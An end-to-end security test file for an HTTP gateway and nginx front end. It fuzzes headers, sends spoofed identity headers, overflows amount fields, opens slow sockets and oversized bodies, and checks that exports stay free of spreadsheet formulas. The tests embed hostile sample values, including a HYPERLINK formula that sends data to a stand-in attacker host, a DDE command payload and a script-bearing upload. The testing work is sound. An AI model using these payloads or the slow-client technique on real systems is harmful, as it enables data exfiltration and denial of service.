// Hostile clients against the whole system with nginx in front, as an outside tester with ordinary accounts would
// try it. Each attack is enumerated from the contracts where it can be (every amount field, every export) and
// checked to be refused precisely; after them all the system is healthy, its audit chains verify and nothing a
// refused call sent was written.
//   1. Every byte 0x00–0xFF in every header the gateway reads, sent raw to the gateway itself.
//   2. Ids that are not ASCII, invisible characters and NUL in names, a 20-digit id in a path.
//   3. int64 extremes in every amount field of every RPC (found in the descriptors).
//   4. Spreadsheet formulas in every name that reaches an export, and every export read back.
//   5. 64 slow sockets for 20 s, through nginx (TLS) and straight at the gateway, while /healthz must answer
//      within 100 ms.
//   6. Oversized and unauthenticated bodies; 3,000 odd paths against the metrics' memory.
// (Replaying another caller's idempotency key is checked for every write route in route_matrix_test.)

#include <arpa/inet.h>
#include <httplib.h>
#include <netinet/in.h>
#include <openssl/ssl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <climits>
#include <csignal>
#include <fstream>
#include <functional>
#include <set>
#include <thread>

#include "absl/strings/escaping.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "common/csv.h"
#include "common/proto_json.h"
#include "gateway/routes.h"
#include "gtest/gtest.h"
#include "proto/proto_files.h"
#include "tests/e2e/http_fixture.h"
#include "tests/unzip.h"

namespace saima::testing {
namespace {

using google::protobuf::Descriptor;
using google::protobuf::FieldDescriptor;
using Clock = std::chrono::steady_clock;

double Ms(Clock::duration d) { return std::chrono::duration<double, std::milli>(d).count(); }

// A TCP connection to 127.0.0.1:port (-1 on failure).
int Connect(int port) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    close(fd);
    return -1;
  }
  timeval timeout{5, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  return fd;
}

// Sends raw bytes as one HTTP request and returns the status of the answer (0: none).
int RawStatus(int port, const std::string& request) {
  const int fd = Connect(port);
  if (fd < 0) return 0;
  (void)!write(fd, request.data(), request.size());
  char buffer[512];
  const ssize_t n = read(fd, buffer, sizeof buffer - 1);
  close(fd);
  if (n < 12) return 0;
  int status = 0;
  std::sscanf(buffer, "HTTP/1.%*d %d", &status);
  return status;
}

long RssKb(pid_t pid) {
  std::ifstream status(absl::StrCat("/proc/", pid, "/status"));
  std::string line;
  while (std::getline(status, line)) {
    if (absl::StartsWith(line, "VmRSS:")) return std::stol(line.substr(6));
  }
  return -1;
}

// CSV cells a spreadsheet would take for a formula: starting with = + - @, TAB or CR, and not a signed number.
std::vector<std::string> FormulaCells(const std::string& csv) {
  std::vector<std::string> out;
  auto rows = ParseCsv(csv);
  if (!rows.ok()) return {"(not CSV)"};
  for (const auto& row : *rows) {
    for (const std::string& cell : row) {
      if (cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos) continue;
      const bool number = cell.size() > 1 && cell.find_first_not_of("+-0123456789.%", 1) == std::string::npos;
      if (!number) out.push_back(cell);
    }
  }
  return out;
}

class HostileTest : public HttpSystemTest {
 protected:
  static void SetUpTestSuite() {
    std::signal(SIGPIPE, SIG_IGN);  // a server that cuts a slow socket off must not end the test
    SetUpSystem({}, /*with_nginx=*/true);
  }
  static int64_t AuditEntries() { return Scalar("SELECT count(*) FROM audit.entries"); }
};

TEST_F(HostileTest, EveryByteInEveryHeaderLeavesTheGatewayStanding) {
  const std::string token = system_->token("unit");
  const int64_t audit_before = AuditEntries();
  std::map<std::string, std::map<int, int>> statuses;  // header → HTTP status → count
  std::map<int, int> request_id_status;                // byte → HTTP status
  for (const char* header : {"X-Request-Id", "Idempotency-Key", "Authorization", "X-Real-IP", "Content-Type", "Accept",
                             "User-Agent", "X-Saima-User-Bin", "Grpc-Metadata-X"}) {
    for (int b = 0; b < 256; ++b) {
      const std::string value = absl::StrCat("a", std::string(1, static_cast<char>(b)), "b");
      const std::string auth =
          std::string(header) == "Authorization" ? "" : absl::StrCat("Authorization: Bearer ", token, "\r\n");
      const int status = RawStatus(system_->http_port(), absl::StrCat("GET /v1/whoami HTTP/1.1\r\nHost: x\r\n", auth,
                                                                      header, ": ", value, "\r\n\r\n"));
      statuses[header][status]++;
      if (std::string(header) == "X-Request-Id") request_id_status[b] = status;
      EXPECT_NE(status / 100, 5) << header << " with byte " << b;
    }
  }
  // The gateway is still there, and serves.
  EXPECT_TRUE(system_->process("gateway").running());
  EXPECT_EQ(Get("unit", "/v1/whoami").first, 200);
  // A request id of other bytes is refused by name; an id that is fine is echoed.
  for (int b = 0; b < 256; ++b) {
    const bool allowed = std::isalnum(b) || b == '-' || b == '_' || b == '.' || b == ':';
    const int status = request_id_status[b];
    if (b == 0) continue;  // the HTTP server ends a header value at NUL: "a" is then a fine id
    EXPECT_TRUE(allowed ? status == 200 : status / 100 == 4) << "X-Request-Id with byte " << b << ": " << status;
  }
  // Headers a client sends are never taken for the caller's identity.
  httplib::Client client("127.0.0.1", system_->http_port());
  auto spoofed =
      client.Get("/v1/whoami",
                 {{"Authorization", "Bearer " + token}, {"X-Saima-User-Bin", "root-1"}, {"X-Saima-Role", "sysadmin"}});
  ASSERT_TRUE(spoofed);
  EXPECT_EQ(json::parse(spoofed->body)["caller"]["userId"], "staff-1") << spoofed->body;
  EXPECT_EQ(AuditEntries(), audit_before) << "a whoami writes nothing";
  std::string summary;
  for (const auto& [header, counts] : statuses) {
    absl::StrAppend(&summary, header, ":");
    for (const auto& [status, n] : counts) absl::StrAppend(&summary, " ", status, "×", n);
    absl::StrAppend(&summary, "; ");
  }
  std::printf("header bytes: %s\n", summary.c_str());
}

TEST_F(HostileTest, IdsAndNamesOutsideTheRulesAreRefusedByField) {
  (void)system_->token("root"), (void)system_->token("unit");  // signed in first: a sign-in writes a session
  const int64_t audit_before = AuditEntries();
  // A user id that is not ASCII.
  auto [user, user_body] = Post("root", "/v1/users",
                                {{"user", {{"userId", "市领导2"}, {"displayName", "市领导"}, {"role", "leader"}}},
                                 {"password", "long-enough-password"}});
  EXPECT_EQ(user, 400) << user_body.dump();
  // NUL, zero-width and right-to-left override characters in names.
  for (const std::string& name : {std::string("项目\0名", 10), std::string("项目\u200b名"),
                                  std::string("项目\u202egnp"), std::string("\ufeff项目")}) {
    json project = PlannedProject("2023-331181-04-01-700001", name);
    auto [status, body] = Post("unit", "/v1/projects", project);
    EXPECT_EQ(status, 400) << body.dump();
    EXPECT_EQ(body["details"][0]["fieldViolations"][0]["field"], "project.name") << body.dump();
  }
  // Ids in paths that are not ids.
  for (const char* path : {"/v1/projects/99999999999999999999", "/v1/projects/%E8%AF%B7", "/v1/projects/-1"}) {
    auto [status, body] = Get("unit", path);
    EXPECT_EQ(status, 400) << path << " " << body.dump();
    EXPECT_FALSE(body.value("message", "").empty()) << path;
  }
  EXPECT_EQ(AuditEntries(), audit_before) << "a refused request wrote something";
  // A refusal does not name the unit that owns what the caller may not see.
  const std::string id = CreateProject("2023-331181-04-01-700002", 120'000'000);
  auto [denied, denied_body] = Get("other_unit", "/v1/projects/" + id);
  EXPECT_EQ(denied, 403);
  EXPECT_EQ(denied_body.dump().find("331181001"), std::string::npos) << denied_body.dump();
  EXPECT_EQ(denied_body.dump().find("龙渊"), std::string::npos) << denied_body.dump();
}

// The amount fields of a message: paths of int64 fields named *_yuan, nested messages included.
void AmountFields(const Descriptor* type, const std::string& prefix, int depth, std::vector<std::string>* out) {
  if (depth > 3) return;
  for (int i = 0; i < type->field_count(); ++i) {
    const FieldDescriptor* f = type->field(i);
    const std::string path = prefix.empty() ? f->name() : absl::StrCat(prefix, ".", f->name());
    if (f->cpp_type() == FieldDescriptor::CPPTYPE_INT64 && absl::EndsWith(f->name(), "_yuan") && !f->is_repeated()) {
      out->push_back(path);
    } else if (f->cpp_type() == FieldDescriptor::CPPTYPE_MESSAGE && !f->is_map() &&
               f->message_type()->well_known_type() == Descriptor::WELLKNOWNTYPE_UNSPECIFIED) {
      AmountFields(f->message_type(), f->is_repeated() ? path + "[]" : path, depth + 1, out);
    }
  }
}

// Sets the JSON value at a proto path ("report.ytd_breakdown.construction_yuan", "reports[].ytd_yuan": the first).
void SetAt(json& j, const std::string& path, const json& value) {
  json* at = &j;
  std::vector<std::string> parts = absl::StrSplit(path, '.');
  for (size_t i = 0; i < parts.size(); ++i) {
    std::string part = parts[i];
    const bool list = absl::EndsWith(part, "[]");
    if (list) part.resize(part.size() - 2);
    const std::string key = LowerCamel(part);
    if (i + 1 == parts.size()) {
      (*at)[key] = value;
    } else if (list) {
      at = &(*at)[key][0];
    } else {
      at = &(*at)[key];
    }
  }
}

TEST_F(HostileTest, Int64ExtremesInEveryAmountFieldAreRefusedNamingTheField) {
  // A project of the unit, 入库, with a plan and February's figures: the context every request below needs.
  const std::string project = CreateProject("2023-331181-04-01-700010", 200'000'000);
  Approve(project, "2023-01-20");
  ASSERT_EQ(SubmitWhenAccepted(Report(project, "2023-02", 1'000'000, 1'000'000)), 200);
  const json revision = Get("admin", "/v1/projects/" + project).second["project"]["revision"];
  json draft_project = PlannedProject("2023-331181-04-01-700011", "另一个项目");
  const std::string started = CreateProject("2023-331181-04-01-700012", 90'000'000);

  // Every RPC with an amount in its request, and a request it would accept, sent as who may send it.
  struct Fixture {
    std::string user;
    std::string method;
    std::string path;
    json body;
    std::string bound = "";  // the request field the HTTP body is ("project."), or "" for the whole request
  };
  std::map<std::string, Fixture> fixtures = {
      {"/saima.registry.v1.RegistryService/CreateProject", {"unit", "POST", "/v1/projects", draft_project, "project."}},
      {"/saima.registry.v1.RegistryService/UpdateProject",
       {"unit",
        "PATCH",
        "/v1/projects/" + project,
        {{"plannedTotalInvestmentYuan", "210000000"}, {"revision", revision}},
        "project."}},
      {"/saima.registry.v1.RegistryService/CreateRukuApplication",
       {"unit",
        "POST",
        "/v1/ruku/applications",
        {{"projectId", started}, {"reviewingDepartmentId", "D01"}, {"approvedTotalInvestmentYuan", "90000000"}},
        "application."}},
      {"/saima.stats.v1.StatsService/SetAnnualPlan",
       {"stats", "PUT", "/v1/plans", {{"projectId", project}, {"year", 2024}, {"plannedYuan", "1000000"}}, "plan."}},
      {"/saima.stats.v1.StatsService/SubmitMonthlyReport",
       {"unit", "POST", "/v1/monthly-reports", Report(project, "2023-03", 1'000'000, 2'000'000), "report."}},
      {"/saima.stats.v1.StatsService/VerifyMonthlyReport",
       {"stats", "POST", "/v1/monthly-reports:verify", Report(project, "2023-02", 1'000'000, 1'000'000), "report."}},
      {"/saima.stats.v1.StatsService/CorrectMonthlyReport",
       {"stats",
        "POST",
        "/v1/monthly-reports:correct",
        {{"report", Report(project, "2022-11", 1'000'000, 1'000'000)}, {"reason", "更正"}}}},
      {"/saima.stats.v1.StatsService/RankUnits", {"leader", "GET", "/v1/unit-rankings?period=2023-02", json()}},
      {"/saima.stats.v1.StatsService/GetCityReport", {"leader", "GET", "/v1/reports/city?period=2023-02", json()}},
  };
  auto table = gateway::RouteTable::Build(ProtoFiles());
  ASSERT_TRUE(table.ok());
  int checked = 0;
  for (const gateway::Rpc& rpc : table->rpcs()) {
    if (rpc.access.internal()) continue;
    std::vector<std::string> fields;
    AmountFields(rpc.method->input_type(), "", 0, &fields);
    if (fields.empty()) continue;
    if (rpc.method->client_streaming()) continue;  // the import: its rows are checked as a report's (stats_test)
    auto fixture = fixtures.find(rpc.grpc_path);
    ASSERT_NE(fixture, fixtures.end()) << rpc.grpc_path << " has amount fields " << absl::StrJoin(fields, ", ")
                                       << ": add a request for it to this test";
    const Fixture& f = fixture->second;
    const bool read = f.method == "GET";
    for (const std::string& field : fields) {
      // The field's path in the HTTP body (the body is the bound field, or the whole request).
      const std::string in_body = absl::StartsWith(field, f.bound) ? field.substr(f.bound.size()) : field;
      for (int64_t extreme : {INT64_MAX, INT64_MIN, int64_t{-1}, int64_t{100'000'000'000'001}}) {
        const int64_t audit_before = AuditEntries();
        int status = 0;
        json answer;
        if (read) {
          std::tie(status, answer) =
              Get(f.user, absl::StrCat(f.path, "&", LowerCamel(field), "=", std::to_string(extreme)));
        } else {
          json body = f.body;
          SetAt(body, in_body, std::to_string(extreme));
          std::tie(status, answer) = Send(f.method, f.user, f.path, body);
        }
        ++checked;
        EXPECT_NE(status / 100, 5) << rpc.grpc_path << " " << field << "=" << extreme << ": " << answer.dump();
        if (read && extreme >= 0) continue;  // a filter above every amount is a question with an empty answer
        EXPECT_EQ(status, 400) << rpc.grpc_path << " " << field << "=" << extreme << ": " << answer.dump();
        bool named = false;
        for (const auto& d : answer.value("details", json::array())) {
          for (const auto& v : d.value("fieldViolations", json::array())) {
            named = named || absl::StrContains(v.value("field", ""), field.substr(field.rfind('.') + 1));
          }
        }
        EXPECT_TRUE(named) << rpc.grpc_path << " " << field << "=" << extreme << ": " << answer.dump();
        EXPECT_EQ(AuditEntries(), audit_before) << rpc.grpc_path << " " << field << "=" << extreme << " wrote";
      }
    }
  }
  std::printf("amount fields at int64 extremes: %d requests refused or answered, none a 5xx\n", checked);
  // The city's reports still answer.
  EXPECT_EQ(Get("leader", "/v1/reports/city?period=2023-02").first, 200);
}

TEST_F(HostileTest, FormulasReachNoExport) {
  // Formulas wherever people type text that an export carries: project names, problems, orders, judges, units.
  const std::string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")";
  ASSERT_EQ(
      Post("admin", "/v1/units",
           {{"unitId", "331181200"}, {"name", "@SUM(1+1)镇"}, {"type", "UNIT_TYPE_TOWNSHIP"}, {"regionCode", "331181"}})
          .first,
      200);
  const std::string project = ReportingKeyProject("2023-331181-04-01-700020", formula);
  ASSERT_FALSE(project.empty());
  // A figure 核实性审核 flags (自开始建设累计 above the 2亿 planned total) with a formula for its 说明.
  json flagged = Report(project, "2023-03", 1'000'000, 2'000'000);
  flagged["sinceStartYuan"] = "250000000";
  flagged["explanation"] = formula;
  ASSERT_EQ(Post("unit", "/v1/monthly-reports", flagged).first, 200);
  ASSERT_EQ(Post("unit", "/v1/problems",
                 {{"projectId", project},
                  {"kind", "PROBLEM_KIND_LAND"},
                  {"description", "+1+1 用地未落实"},
                  {"responsibleUnitId", "D01"},
                  {"responsiblePerson", "-2+3"},
                  {"deadline", "2023-07-31"},
                  {"openedDate", "2023-02-10"}})
                .first,
            200);
  ASSERT_EQ(Post("stats", "/v1/periods/2023-02:lock", json::object()).first, 200);
  auto [campaign_made, campaign] =
      Post("admin", "/v1/campaigns",
           {{"year", 2023},
            {"name", "=1+1 评比"},
            {"figuresPeriod", "2023-02"},
            {"eligibleSince", "2022-06-01"},
            {"pools", {{{"poolId", "all"}, {"name", "@全部"}, {"unitIds", {"331181001", "331181200"}}}}}});
  ASSERT_EQ(campaign_made, 200) << campaign.dump();
  const std::string campaign_id = campaign["campaign"]["campaignId"];
  const std::string base = "/v1/campaigns/" + campaign_id;
  ASSERT_EQ(Post("admin", base + "/judges", {{"judgeId", "judge-city"}, {"name", "=cmd|' /C calc'!A0"}}).first, 200);
  for (const char* unit : {"331181001", "331181200"}) {
    const std::string sheet = base + "/sheets/judge-city/" + unit;
    ASSERT_EQ(Send("PUT", "judge_city", sheet, Scores(80, 80, 80, 80)).first, 200);
    ASSERT_EQ(Post("judge_city", sheet + ":submit", json::object()).first, 200);
  }
  auto [computed, results] = Post("admin", base + ":compute", json::object());
  ASSERT_EQ(computed, 200) << results.dump();

  // A document uploaded with its file: served back as what it was checked to be, never as a page.
  std::string png_b64;
  absl::Base64Escape(std::string("\x89PNG\r\n\x1A\n=1+1,@SUM(1)", 20), &png_b64);
  auto [uploaded, document] = Post(
      "admin", "/v1/projects/" + project + "/documents:upload",
      {{"document", {{"type", "DOCUMENT_TYPE_SITE_PHOTO"}, {"takenAt", "2023-02-10 10:00"}, {"takenPlace", "=龙渊"}}},
       {"file", {{"fileName", "=cmd.png"}, {"contentType", "image/png"}, {"content", png_b64}}}});
  ASSERT_EQ(uploaded, 200) << document.dump();
  // Not a PNG's bytes under the PNG type, and a page declared as an image: refused, nothing stored.
  for (const auto& [type, bytes] : std::vector<std::pair<std::string, std::string>>{
           {"image/png", "<html><script>alert(1)</script></html>"}, {"text/html", "<html></html>"}}) {
    std::string b64;
    absl::Base64Escape(bytes, &b64);
    auto [refused, body] = Post("admin", "/v1/projects/" + project + "/documents:upload",
                                {{"document", {{"type", "DOCUMENT_TYPE_CONSTRUCTION_PERMIT"}}},
                                 {"file", {{"fileName", "x.png"}, {"contentType", type}, {"content", b64}}}});
    EXPECT_EQ(refused, 400) << type << ": " << body.dump();
  }

  // Every RPC that answers with a file, asked for its CSV where it has one.
  std::map<std::string, std::string> exports = {
      {"/saima.gateway.v1.GatewayService/GetProvincialPackage", "/v1/reports/provincial?period=2023-02&format=csv"},
      {"/saima.gateway.v1.GatewayService/ExportContestResults",
       "/v1/campaigns/" + campaign_id + "/results:export?format=csv"},
      {"/saima.gateway.v1.GatewayService/ExportDispatchAgenda", "/v1/dispatch/agenda:export?period=2023-02"},
      {"/saima.gateway.v1.GatewayService/ExportVerificationFlags", "/v1/verification-flags:export?period=2023-03"},
      {"/saima.gateway.v1.GatewayService/ExportQuarterlyAnalysis", "/v1/analysis/quarterly:export?year=2023&quarter=1"},
      {"/saima.gateway.v1.GatewayService/ExportAnnualSummary", "/v1/analysis/annual:export?year=2023&period=2023-02"},
      {"/saima.gateway.v1.GatewayService/GetProjectOc4ids", "/v1/projects/" + project + "/oc4ids"},  // JSON
      {"/saima.gateway.v1.GatewayService/GetOc4idsPackage", "/v1/oc4ids/project-package"},           // JSON
      {"/saima.registry.v1.RegistryService/GetDocumentFile",
       absl::StrCat("/v1/documents/", document["document"]["documentId"].get<std::string>(), "/file")},
  };
  auto table = gateway::RouteTable::Build(ProtoFiles());
  ASSERT_TRUE(table.ok());
  httplib::Client http("127.0.0.1", system_->http_port());
  int files = 0;
  for (const gateway::Route& route : table->routes()) {
    if (route.response_body.empty()) continue;
    const auto* field = route.rpc->method->output_type()->FindFieldByName(route.response_body);
    if (field == nullptr || field->message_type() == nullptr || field->message_type()->name() != "File") continue;
    auto found = exports.find(route.rpc->grpc_path);
    ASSERT_NE(found, exports.end()) << route.rpc->grpc_path << " exports a file: add its request to this test";
    auto res = http.Get(found->second.c_str(), {{"Authorization", "Bearer " + system_->token("admin")}});
    ASSERT_TRUE(res);
    ASSERT_EQ(res->status, 200) << found->second << ": " << res->body.substr(0, 300);
    EXPECT_TRUE(absl::StartsWith(res->get_header_value("Content-Disposition"), "attachment"))
        << found->second << " is a download, not a page";
    if (route.rpc->grpc_path == "/saima.registry.v1.RegistryService/GetDocumentFile") {
      EXPECT_EQ(res->get_header_value("Content-Type"), "image/png");
      ++files;
      continue;  // the upload itself, as checked: no cells to read
    }
    std::map<std::string, std::string> contents;
    if (absl::StartsWith(res->body, "PK")) {
      contents = UnzipAll(res->body);  // a ZIP of CSV files, or an XLSX workbook
    } else {
      contents[absl::StrContains(res->get_header_value("Content-Type"), "csv") ? "file.csv" : "file.json"] = res->body;
    }
    for (const auto& [name, content] : contents) {
      if (absl::EndsWith(name, ".csv")) {
        EXPECT_TRUE(FormulaCells(content).empty())
            << found->second << " " << name << ": " << absl::StrJoin(FormulaCells(content), " | ");
      }
      if (absl::StartsWith(name, "xl/worksheets/")) {
        EXPECT_EQ(content.find("<f>"), std::string::npos) << found->second << " " << name << " holds a formula";
      }
    }
    ++files;
  }
  EXPECT_EQ(files, static_cast<int>(exports.size()));
}

TEST_F(HostileTest, SlowClientsDoNotStarveAnyone) {
  // 64 sockets that send one header byte every 2 s, for 20 s: first through nginx over TLS, then at the gateway.
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  auto attack = [&](bool through_nginx, double* worst_ms, int* answered, int* probes) {
    const int port = through_nginx ? system_->nginx_https_port() : system_->http_port();
    struct Slow {
      int fd;
      SSL* ssl;
    };
    std::vector<Slow> sockets;
    for (int i = 0; i < 64; ++i) {
      Slow s{Connect(port), nullptr};
      if (s.fd < 0) continue;
      if (through_nginx) {
        s.ssl = SSL_new(ctx);
        SSL_set_fd(s.ssl, s.fd);
        if (SSL_connect(s.ssl) != 1) {
          SSL_free(s.ssl);
          close(s.fd);
          continue;
        }
      }
      sockets.push_back(s);
    }
    std::atomic<bool> stop{false};
    std::thread dribble([&] {
      const std::string request = "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ";
      for (size_t i = 0; !stop.load(); ++i) {
        for (auto& s : sockets) {
          const char c = i < request.size() ? request[i] : 'a';
          if (s.ssl != nullptr) {
            SSL_write(s.ssl, &c, 1);
          } else {
            (void)!write(s.fd, &c, 1);
          }
        }
        for (int k = 0; k < 20 && !stop.load(); ++k) std::this_thread::sleep_for(std::chrono::milliseconds(100));
      }
    });
    const auto end = Clock::now() + std::chrono::seconds(20);
    while (Clock::now() < end) {
      const auto start = Clock::now();
      int status = 0;
      if (through_nginx) {
        httplib::SSLClient client("127.0.0.1", port);
        client.set_ca_cert_path((system_->tls_dir() + "/ca.crt").c_str());
        client.enable_server_certificate_verification(true);
        auto res = client.Get("/healthz");
        status = res ? res->status : 0;
      } else {
        httplib::Client client("127.0.0.1", port);
        auto res = client.Get("/healthz");
        status = res ? res->status : 0;
      }
      *worst_ms = std::max(*worst_ms, Ms(Clock::now() - start));
      *answered += status == 200 ? 1 : 0;
      ++*probes;
      std::this_thread::sleep_for(std::chrono::milliseconds(200));
    }
    stop = true;
    dribble.join();
    for (auto& s : sockets) {
      if (s.ssl != nullptr) SSL_free(s.ssl);
      close(s.fd);
    }
    return sockets.size();
  };
  double nginx_worst = 0, gateway_worst = 0;
  int nginx_ok = 0, nginx_probes = 0, gateway_ok = 0, gateway_probes = 0;
  const size_t through_nginx = attack(true, &nginx_worst, &nginx_ok, &nginx_probes);
  const size_t direct = attack(false, &gateway_worst, &gateway_ok, &gateway_probes);
  SSL_CTX_free(ctx);
  std::printf(
      "slow clients: %zu TLS sockets at nginx: /healthz %d/%d answered, slowest %.1f ms; %zu sockets at the "
      "gateway: %d/%d answered, slowest %.1f ms\n",
      through_nginx, nginx_ok, nginx_probes, nginx_worst, direct, gateway_ok, gateway_probes, gateway_worst);
  EXPECT_EQ(through_nginx, 64u);
  // Starved, a probe would wait for the attack's 20 s; a second is far from that and leaves room for a loaded
  // machine (a CI run under AddressSanitizer saw 116 ms) without making this a timing test.
  EXPECT_EQ(nginx_ok, nginx_probes);
  EXPECT_LT(nginx_worst, 1000.0);
  EXPECT_EQ(gateway_ok, gateway_probes);
  EXPECT_LT(gateway_worst, 1000.0);
}

// How much the gateway's RSS may grow while it refuses ~1 GiB of bodies from their headers: 64 MiB. Under
// AddressSanitizer freed memory waits in its quarantine (256 MiB by default) before it is reused, so there the bound
// is that quarantine more, still far below what reading the bodies would take.
#if defined(__SANITIZE_ADDRESS__)
#define SAIMA_UNDER_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define SAIMA_UNDER_ASAN 1
#endif
#endif
#ifdef SAIMA_UNDER_ASAN
constexpr long kRssGrowthBoundKb = (64 + 256) * 1024;
#else
constexpr long kRssGrowthBoundKb = 64 * 1024;
#endif

TEST_F(HostileTest, BodiesAreJudgedBeforeTheyAreReadAndPathsAreNotMetricLabels) {
  const pid_t gateway = system_->process("gateway").pid();
  const long rss_before = RssKb(gateway);
  // 48 requests at once whose bodies never come: 33 MB without a token, 20 MB with one (over the limit), 8 MB
  // without a token. Each is answered from its headers alone, before a byte of its body is sent.
  const std::string token = system_->token("unit");
  std::vector<std::thread> senders;
  std::atomic<int> refused_early{0};
  for (int i = 0; i < 48; ++i) {
    senders.emplace_back([&, i] {
      const int kind = i % 3;
      const int64_t length = kind == 0 ? 33 << 20 : kind == 1 ? 20 << 20 : 8 << 20;
      const int fd = Connect(system_->http_port());
      if (fd < 0) return;
      const std::string headers = absl::StrCat(
          "POST /v1/projects HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ", length, "\r\n",
          kind == 1 ? absl::StrCat("Authorization: Bearer ", token, "\r\n") : "", "\r\n");
      (void)!write(fd, headers.data(), headers.size());
      char buffer[256];
      const ssize_t n = read(fd, buffer, sizeof buffer - 1);
      int status = 0;
      if (n > 12) std::sscanf(buffer, "HTTP/1.%*d %d", &status);
      const bool expected = kind == 0 ? (status == 413 || status == 401) : kind == 1 ? status == 413 : status == 401;
      if (expected) ++refused_early;
      close(fd);
    });
  }
  for (auto& t : senders) t.join();
  EXPECT_EQ(refused_early.load(), 48);
  // Through nginx, a body over the limit is refused there (413).
  httplib::SSLClient tls("127.0.0.1", system_->nginx_https_port());
  tls.set_ca_cert_path((system_->tls_dir() + "/ca.crt").c_str());
  auto big = tls.Post("/v1/projects", std::string(17 << 20, 'x'), "application/json");
  ASSERT_TRUE(big);
  EXPECT_EQ(big->status, 413);
  // 3,000 odd paths, unauthenticated: the metrics count them under one label.
  httplib::Client http("127.0.0.1", system_->http_port());
  const size_t metrics_before = http.Get("/metrics")->body.size();
  for (int i = 0; i < 3000; ++i) http.Get(absl::StrCat("/v1/odd-", i, "/", i * 7919).c_str());
  const size_t metrics_after = http.Get("/metrics")->body.size();
  const long rss_after = RssKb(gateway);
  std::printf("bodies and paths: gateway RSS %ld → %ld KiB; /metrics %zu → %zu bytes\n", rss_before, rss_after,
              metrics_before, metrics_after);
  EXPECT_LT(metrics_after, metrics_before + 4096);
  EXPECT_LT(rss_after - rss_before, kRssGrowthBoundKb) << "the gateway read what it should have refused";
}

// Last: after everything above, the system stands and its records are whole.
TEST_F(HostileTest, ZzAfterTheAttacksTheSystemIsHealthyAndItsAuditChainsVerify) {
  ASSERT_TRUE(system_->WaitHealthy(10));
  for (const char* name : {"gateway", "registry", "stats", "scoring", "nginx"}) {
    EXPECT_TRUE(system_->process(name).running()) << name;
  }
  auto [verified, chains] = Get("root", "/v1/audit:verify");
  ASSERT_EQ(verified, 200) << chains.dump();
  ASSERT_EQ(chains["chains"].size(), 3u) << chains.dump();
  for (const auto& chain : chains["chains"]) EXPECT_TRUE(chain.value("intact", false)) << chain.dump();
}

}  // namespace
}  // namespace saima::testing
